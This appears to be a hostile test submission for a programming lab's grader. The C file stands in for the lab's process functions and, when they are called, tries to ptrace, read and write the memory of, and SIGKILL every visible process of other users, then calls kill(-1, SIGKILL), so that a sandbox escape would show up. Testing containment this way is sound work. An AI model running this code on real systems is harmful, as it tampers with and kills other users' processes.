/* Hostile submission for lab 01: ptrace(PTRACE_ATTACH), process_vm_writev and kill on every process it can see, then kill(-1, SIGKILL)
 * Self-limiting: if containment failed, this costs seconds, not the machine.
 *
 * The grader survives with a valid report, and no "could ptrace", "could
 * read/write memory" or "could signal" line reaches it. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>
#include "family.h"

/* Everything it may do to the judge's processes: trace them (any process:
 * the system-call filter forbids ptrace), read and write their memory and
 * signal them (any process of another user or another session). Each
 * success is printed; then kill(-1). */
#include <dirent.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/wait.h>

static uid_t uid_of(const char *pid)
{
    char p[64];
    struct stat st;
    snprintf(p, sizeof p, "/proc/%.20s", pid);
    return stat(p, &st) == 0 ? st.st_uid : (uid_t)-1;
}

/* One word of its stack, read and written back unchanged: proof enough. */
static void poke(pid_t pid, const char *name)
{
    char p[64], line[512];
    snprintf(p, sizeof p, "/proc/%d/maps", (int)pid);
    FILE *m = fopen(p, "r");
    unsigned long lo = 0, hi = 0;
    while (m && fgets(line, sizeof line, m))
        if (strstr(line, "[stack]"))
            sscanf(line, "%lx-%lx", &lo, &hi);
    if (m)
        fclose(m);
    if (!hi)
        return;
    long word;
    struct iovec local = {&word, sizeof word};
    struct iovec remote = {(void *)(hi - 4096), sizeof word};
    if (process_vm_readv(pid, &local, 1, &remote, 1, 0) == (ssize_t)sizeof word) {
        printf("could read memory of pid %d (%s)\n", (int)pid, name);
        if (process_vm_writev(pid, &local, 1, &remote, 1, 0) == (ssize_t)sizeof word)
            printf("could write memory of pid %d (%s)\n", (int)pid, name);
    }
}

static void misbehave(void)
{
    static int done;
    if (done++)
        return;
    uid_t me = getuid();
    int others = 0;
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d && (e = readdir(d))) {
        if (e->d_name[0] < '0' || e->d_name[0] > '9')
            continue;
        pid_t pid = (pid_t)atoi(e->d_name);
        if (pid == getpid())
            continue;
        char p[64], name[64] = "?";
        snprintf(p, sizeof p, "/proc/%d/comm", (int)pid);
        FILE *c = fopen(p, "r");
        if (c) {
            if (fgets(name, sizeof name, c))
                name[strcspn(name, "\n")] = '\0';
            fclose(c);
        }
        uid_t owner = uid_of(e->d_name);
        if (owner != me)
            others++;
        if (ptrace(PTRACE_ATTACH, pid, NULL, NULL) == 0) {
            printf("could ptrace pid %d (%s, uid %d)\n", (int)pid, name, (int)owner);
            waitpid(pid, NULL, __WALL);
            ptrace(PTRACE_DETACH, pid, NULL, NULL);
        }
        /* Its own sandbox (same user, same session) it may touch. */
        int judge = owner != me || getsid(pid) != getsid(0);
        if (judge)
            poke(pid, name);
        /* signal 0 only tests the permission; then the real one */
        if (judge && kill(pid, 0) == 0) {
            printf("could signal pid %d (%s, uid %d)\n", (int)pid, name, (int)owner);
            kill(pid, SIGKILL);
        }
    }
    if (d)
        closedir(d);
    printf("signal-judge: %d processes of other users were visible\n", others);
    fflush(stdout);
    kill(-1, SIGKILL);
    exit(1); /* so that what it printed reaches the failure message */
}

struct who who_am_i(void)
{
    misbehave();
    struct who w = {0, 0};
    return w;
}

pid_t start_child(child_job job, int arg)
{
    (void)job;
    (void)arg;
    misbehave();
    return -1;
}

int run_children(int n, child_job job, pid_t pids[], int codes[])
{
    (void)n;
    (void)job;
    (void)pids;
    (void)codes;
    misbehave();
    return 0;
}
